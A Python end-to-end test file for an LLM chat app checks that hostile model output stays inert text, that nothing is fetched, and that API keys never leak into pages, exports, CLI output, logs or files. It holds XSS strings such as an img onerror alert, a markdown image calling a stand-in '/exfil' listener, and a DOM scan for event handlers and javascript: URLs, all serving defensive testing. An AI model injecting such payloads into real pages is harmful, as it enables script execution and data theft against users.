"""Security in the browser: hostile model output stays text, nothing is fetched, no key is ever shown."""

from __future__ import annotations

import json
import subprocess
import sys
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.e2e._app import (
    add_to_multiselect,
    ROOT,
    assert_no_traceback,
    chat,
    download,
    go_to,
    main_text,
    open_app,
    pick_target,
    screenshot,
    wait_answer,
    wait_idle,
)

pytestmark = pytest.mark.e2e

# what would run script or load a URL if any of it reached the DOM as markup
HOSTILE_DOM = """() => {
    const app = document.querySelector("[data-testid='stApp']");
    const bad = [];
    for (const el of app.querySelectorAll('*')) {
        for (const a of el.getAttributeNames()) {
            if (a.startsWith('on')) bad.push(el.tagName + '[' + a + ']');
        }
        for (const a of ['href', 'src', 'action', 'formaction', 'xlink:href']) {
            const v = el.getAttribute(a) || '';
            if (/^\\s*(javascript|vbscript):/i.test(v)) bad.push(el.tagName + ' ' + a + '=' + v);
        }
        // a link to the listener is only followed on a click; anything that loads by itself is not
        for (const a of ['src', 'srcset', 'poster', 'data', 'background']) {
            const v = el.getAttribute(a) || '';
            if (v.includes('/exfil')) bad.push(el.tagName + ' ' + a + '=' + v);
        }
    }
    for (const s of app.querySelectorAll('script, iframe, object, embed, svg[onload]')) {
        bad.push(s.tagName + ' ' + s.outerHTML.slice(0, 80));
    }
    return bad;
}"""


def _hostile_checks(page, exfil):
    assert page.dialogs == [], page.dialogs
    assert page.evaluate(HOSTILE_DOM) == []
    answer = page.get_by_test_id("stChatMessage").last.inner_text()
    # shown as text a person can read, not silently dropped
    assert "<img src=x onerror=alert(1)>" in answer
    assert "<script>" in answer
    assert "image not loaded" in answer
    page.wait_for_timeout(1000)  # give any stray fetch time to arrive
    assert exfil.requests == [], [r.path for r in exfil.requests]


def test_hostile_model_output_is_text_and_fetches_nothing(page, app, exfil):
    open_app(page, app)
    pick_target(page, "openai:standin-xss")
    # the question carries the same tricks: the user's own text is rendered the same way
    # it also becomes the conversation's title, a button label in the sidebar (labels render markdown)
    chat(page, f"![t]({exfil.root}/exfil?q=title) Echo <img src=x onerror=alert(7)>")
    wait_answer(page)
    _hostile_checks(page, exfil)
    assert_no_traceback(page)
    # the page fetched nothing from anywhere but the app itself (no image, font or script elsewhere)
    foreign = [u for u in page.requests if not u.startswith((app.url, "data:", "blob:"))]
    assert foreign == [], foreign
    # stored output is rendered again on every rerun and after a reload (?c=ID resumes it)
    page.reload(wait_until="domcontentloaded")
    page.wait_for_selector("[data-testid='stChatMessage']", timeout=120_000)
    wait_answer(page)
    assert page.get_by_test_id("stChatMessage").count() == 2
    _hostile_checks(page, exfil)


def _scan(text: str, canaries: dict[str, str], where: str) -> None:
    found = [name for name, value in canaries.items() if value in text]
    assert not found, f"{found} found in {where}"


def test_no_key_anywhere_even_after_auth_errors(page, app, app_home, canaries, standin):
    open_app(page, app)
    pick_target(page, "openai:standin-auth")
    chat(page, "Does my key work?")
    wait_answer(page)
    text = main_text(page)
    assert "OPENAI_API_KEY" in text and "401" in text  # the error names the setting to fix
    assert_no_traceback(page)
    # the key really was configured and sent (so the scans below could find it)
    sent = [r for r in standin.chat_requests if (r.json or {}).get("model") == "standin-auth"]
    assert sent and sent[-1].headers["authorization"] == f"Bearer {canaries['OPENAI_API_KEY']}"
    _scan(page.content(), canaries, "the chat page DOM")

    # exports, as a person downloads them
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_text("This conversation").click()
    exports = []
    for label in ("⬇ Export JSON", "⬇ Export Markdown"):
        exports.append(open(download(page, sidebar.get_by_role("button", name=label)).path(), encoding="utf-8").read())
    assert "Does my key work?" in exports[0]
    assert json.loads(exports[0])["conversation"]["target"] == "openai:standin-auth"
    conv_id = parse_qs(urlsplit(page.url).query)["c"][0]  # the URL keeps the conversation id
    for text in exports:
        _scan(text, canaries, "an export")

    # every page, as rendered with all the keys configured
    for title in ("Vision", "MoE reasoning", "Compare", "Models"):
        if page.get_by_test_id("stSidebarNav").get_by_text(title, exact=True).count():
            go_to(page, title)
            assert_no_traceback(page)
            _scan(page.content(), canaries, f"the {title} page DOM")
            if title == "Models":
                screenshot(page, "models")  # keys configured for every provider, all masked

    # the CLI, run with the same settings, including the same auth error
    env = dict(app.env)
    runs = {("targets", "--json"): 0, ("conversations", "--json"): 0, ("export", conv_id, "--format", "json"): 0,
            ("chat", "Does my key work?", "--target", "openai:standin-auth", "--json"): 1}
    for args, rc in runs.items():
        out = subprocess.run([sys.executable, "-m", "services", *args], cwd=ROOT, env=env,
                             capture_output=True, text=True, timeout=180)
        _scan(out.stdout + out.stderr, canaries, f"`python -m services {' '.join(args)}`")
        assert "Traceback" not in out.stderr
        assert (out.returncode != 0) == bool(rc), out.stderr
    assert "OPENAI_API_KEY" in out.stderr  # the auth error names the setting, not its value

    # the server's log and every file the app wrote (database, WAL, models folder)
    _scan(app.log(), canaries, "the server log")
    for path in app_home.rglob("*"):
        if path.is_file() and path.name != "secrets.toml":
            _scan(path.read_bytes().decode("latin-1"), canaries, str(path.relative_to(app_home)))


def test_compare_with_a_refused_key_and_hostile_output(page, app, canaries, exfil):
    open_app(page, app)
    go_to(page, "Compare")
    box = page.get_by_test_id("stSidebar").get_by_test_id("stMultiSelect")
    field = box.get_by_role("combobox")
    field.click()
    # empty the default preset (two or three targets) as a person does with Backspace, one tag per
    # rerun: a Backspace sent while the page reruns is lost, and leftovers would hit the 4-target cap
    for _ in range(10):
        if "smollm2" not in box.inner_text().lower():
            break
        field.click()
        field.press("Backspace")
        wait_idle(page)
    assert "smollm2" not in box.inner_text().lower(), box.inner_text()
    # three columns: a refused key, hostile output, and a plain answer for the word diff to compare with
    for target in ("openai:standin-auth", "openai:standin-xss", "openai:standin-echo"):
        # the rerun after each pick redraws the widget; a pick typed into the old one is retried
        add_to_multiselect(page, field, target)
        wait_idle(page)
    page.keyboard.press("Escape")
    assert box.inner_text().count("standin-") == 3, box.inner_text()
    page.get_by_label("Prompt", exact=True).fill("Say something.")
    page.get_by_role("button", name="▶ Compare").click()
    page.get_by_role("button", name="⬇ Export run (JSON)").wait_for(timeout=120_000)
    wait_idle(page)
    text = main_text(page)
    # the failed column says why; the other column still shows its answer and its metrics
    assert "OPENAI_API_KEY" in text and "401" in text, text
    assert page.get_by_test_id("stMetricLabel").filter(has_text="TTFT").count() == 2
    assert "<img src=x onerror=alert(1)>" in text
    # the word diff renders the hostile answer a second way; it must stay text too
    assert "words in common" in text
    assert page.dialogs == [] and page.evaluate(HOSTILE_DOM) == []
    assert_no_traceback(page)
    exported = open(download(page, page.get_by_role("button", name="⬇ Export run (JSON)")).path(),
                    encoding="utf-8").read()
    assert "standin-auth" in exported
    for where, content in (("the Compare page DOM", page.content()), ("the run export", exported)):
        _scan(content, canaries, where)
    page.wait_for_timeout(500)
    assert exfil.requests == []


def test_a_key_typed_in_one_session_stays_in_that_session(browser, app, app_home, canaries, standin):
    typed = "sk-TYPEDonlyA" + canaries["OPENAI_API_KEY"][-12:]
    ctx_a, ctx_b = browser.new_context(), browser.new_context()
    try:
        a, b = ctx_a.new_page(), ctx_b.new_page()
        open_app(a, app)
        go_to(a, "Models")
        a.get_by_text("Keys and addresses for this session").click()
        a.get_by_label("OPENAI_API_KEY", exact=True).fill(typed)
        a.get_by_role("button", name="Use for this session").click()
        wait_idle(a)
        assert "Typed for this session" in main_text(a)
        go_to(a, "Chat")
        open_app(b, app)
        for pg, question in ((a, "Which key am I, A?"), (b, "Which key am I, B?")):
            pick_target(pg, "openai:standin-echo")
            chat(pg, question)
            wait_answer(pg)
        sent = {}
        for r in standin.chat_requests:
            body = r.json or {}
            last = (body.get("messages") or [{}])[-1].get("content", "")
            if "Which key am I" in last:
                sent[last[-2]] = r.headers.get("authorization")
        # A's typed key went with A's request only; B used the configured one
        assert sent == {"A": f"Bearer {typed}", "B": f"Bearer {canaries['OPENAI_API_KEY']}"}, sent
        go_to(b, "Models")
        assert "Typed for this session" not in main_text(b)
        secret = {"typed OPENAI_API_KEY": typed}
        for pg, name in ((a, "session A"), (b, "session B")):
            _scan(pg.content(), secret, f"{name}'s DOM")
    finally:
        ctx_a.close()
        ctx_b.close()
    _scan(app.log(), secret, "the server log")
    for path in app_home.rglob("*"):
        if path.is_file():
            _scan(path.read_bytes().decode("latin-1"), secret, str(path.relative_to(app_home)))


def test_hostile_output_on_the_moe_page_stays_text(page, app, exfil):
    open_app(page, app)
    go_to(page, "MoE reasoning")
    pick_target(page, "openai:standin-xss")
    page.get_by_role("button", name="Run", exact=True).click()
    page.wait_for_function(
        """() => [...document.querySelectorAll("[data-testid='stMetricLabel']")]
                   .some(e => e.innerText.trim() === 'Final answer')""", timeout=120_000)
    wait_idle(page)
    assert "onerror=alert(1)" in main_text(page)  # the sample's text, shown as text
    assert page.dialogs == [] and page.evaluate(HOSTILE_DOM) == []
    assert_no_traceback(page)
    page.wait_for_timeout(500)
    assert exfil.requests == []
